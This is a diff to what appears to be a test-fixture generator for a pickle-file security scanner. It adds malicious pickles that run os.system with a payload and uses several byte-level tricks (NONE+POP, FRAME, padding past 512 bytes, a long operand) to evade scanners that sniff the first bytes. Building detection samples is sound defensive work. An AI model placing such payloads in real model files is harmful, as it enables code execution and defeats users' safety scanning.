@@ -262,6 +262,15 @@ def malicious():
     write('malicious', 'protocol0_global_reduce.pkl', p0_system())
     write('malicious', 'protocol0_inst.pkl', b"(S'" + PAYLOAD.encode() + b"'\nios\nsystem\n.")
     write('malicious', 'protocol1_obj.pkl', b"(cos\nsystem\nS'" + PAYLOAD.encode() + b"'\no.")
+    # No PROTO: the unpickler takes any opcode first, so a scanner that sniffs a fixed set of first
+    # bytes misses these (NONE+POP, INT+POP, a FRAME, a STACK_GLOBAL, padding past the first 512
+    # bytes, one long operand first).
+    write('malicious', 'no_proto_none_pop.pkl', b'N0' + p0_system())
+    write('malicious', 'no_proto_int_pop.pkl', b'I1\n0' + p0_system())
+    body = s_unicode('os') + s_unicode('system') + b'\x93' + s_unicode(PAYLOAD) + b'\x85R.'
+    write('malicious', 'no_proto_frame.pkl', b'\x95' + struct.pack('<Q', len(body)) + body)
+    write('malicious', 'no_proto_padded.pkl', b'N0' * 300 + p0_system())
+    write('malicious', 'no_proto_long_operand.pkl', b'X' + struct.pack('<I', 2000) + b'a' * 2000 + b'0' + p0_system())
     write('malicious', 'subprocess_popen.pkl', proto(2) + b'csubprocess\nPopen\n' + b'(X\x05\x00\x00\x00touchX\x11\x00\x00\x00/tmp/oculum-pwnedl\x85R.')
     # runpy / numpy runstring / operator.methodcaller / functools.partial (modelscan gaps)
     src = ("import os; os.system('" + PAYLOAD + "')").encode()
